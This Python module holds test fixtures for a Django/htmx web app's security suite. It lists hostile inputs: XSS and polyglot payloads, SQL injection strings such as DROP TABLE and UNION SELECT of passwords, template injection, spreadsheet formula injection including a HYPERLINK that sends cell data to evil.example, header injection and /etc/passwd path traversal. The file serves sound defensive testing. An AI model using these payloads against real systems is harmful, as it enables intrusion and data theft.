"""Hostile text for the security suite (tests/test_security_forms.py).

Every entry is something a person could type, or a crafted request could send,
into a free-text field: classic and polyglot XSS, attribute breakouts, htmx
attributes (the app uses htmx, so an injected `hx-*` attribute would run a
request), template-language injection, SQL injection, spreadsheet formula
injection, header and path tricks, awkward unicode and very long text.

Rules for the corpus:

- no NUL byte: PostgreSQL refuses it in text, and Django's CharField rejects it
  before that (a separate concern from escaping);
- no entry is only whitespace, and none starts or ends with whitespace unless
  that is the point (the test compares with the payload stripped, as Django's
  CharField strips it);
- no entry has a line that starts with "- " (the zone guide turns such lines
  into a bullet list, which changes the text it shows);
- each line of a multi-line entry that holds markup is distinctive enough not
  to occur in a page by chance.
"""

LONG_TEXT = ("Emma græder ved aflevering <b>&amp;</b> \"far\" 'mor' " * 100).strip()

PAYLOADS: list[str] = [
    # Classic XSS
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<svg/onload=alert`1`>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">klik her</a>',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<object data=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Gem</button></form>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    # Polyglots
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><script>alert(1)</script>",
    # Attribute breakouts
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=alert(1) `",
    # htmx attributes: escaped, they are inert text
    '<div hx-get="/xss" hx-trigger="load">mere</div>',
    '" hx-post="/xss" hx-trigger="load" hx-target="body',
    "<button hx-delete=/xss hx-confirm=Sikker?>Slet</button>",
    '<span hx-on:htmx:load="alert(1)">hej</span>',
    # Template injection: Django, Jinja, JavaScript templates, server-side includes
    "{{7*7}}",
    "{% debug %}",
    "{{ request.user.password }}{% load static %}",
    "${7*7}",
    "#{7*7} <%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    '<!--#exec cmd="/bin/ls" -->',
    # SQL injection
    "' OR '1'='1",
    "1; DROP TABLE children_child;--",
    "Robert'); DROP TABLE children_child;--",
    "') UNION SELECT username, password FROM accounts_user--",
    "%' OR name LIKE '%",
    # Spreadsheet formula injection
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # Header and path tricks
    "Mødet\r\nSet-Cookie: tidlig=1",
    "Mødet\nLOCATION:evil\nX-Header: injected",
    "../../etc/passwd",
    "file:///etc/passwd",
    # Entities and encodings: shown as typed, never decoded
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&amp; &quot; &#x27; &gt;",
    # Unicode
    "Emma \u202eevil.exe\u202c fortsætter",
    "nul\u200bbredde\u200c\u200dtegn\ufeff",
    "Æbler, øl og ål 👶🏽🧒👨‍👩‍👧 ❤️",
    "עברית ومرحبا 中文 Ελληνικά",
    "＜script＞alert(1)＜/script＞",
    "\u2028linje\u2029afsnit",
    # Newlines and markup across lines
    'Første linje\nAnden linje <b>fed</b>\r\nTredje linje "citat"',
    "Emma siger: \"Jeg vil ikke!\"\n\n<script>alert('afsnit')</script>",
    # Very long text (clipped to a field's max_length where it has one)
    LONG_TEXT,
]
